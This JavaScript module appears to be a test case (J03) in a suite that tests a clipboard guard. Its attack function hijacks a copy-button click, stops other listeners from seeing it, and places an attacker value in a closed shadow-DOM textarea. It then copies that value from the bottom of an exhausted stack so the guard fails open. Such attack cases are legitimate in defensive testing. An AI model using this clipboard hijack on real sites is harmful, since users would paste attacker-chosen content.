// J03: a copy command from the last frames of an exhausted stack, where the guard's listener has no room to judge what is copied.
import { copyButton } from './copy-button.mjs';

export default copyButton({
  title: 'a copy command at the end of the stack',
  source: 'fail-open by RangeError',

  attack(a) {
    const hijack = (event) => {
      if (event.target.id !== 'copy') return;
      event.stopImmediatePropagation();
      // In a closed shadow tree, whose events show nothing to the window.
      const host = document.body.appendChild(document.createElement('div'));
      const area = host.attachShadow({ mode: 'closed' }).appendChild(document.createElement('textarea'));
      area.value = a.EVIL;
      area.select();
      let depth = 0;
      const dive = () => {
        try {
          dive();
        } catch {
          // The bottom.
        }
        depth += 1;
        if (depth > 2000 || depth % 20 > 0) return;
        try {
          document.execCommand('copy');
        } catch {
          // No room even for the call.
        }
      };
      dive();
      host.remove();
    };
    addEventListener('click', hijack, true);
  },
});
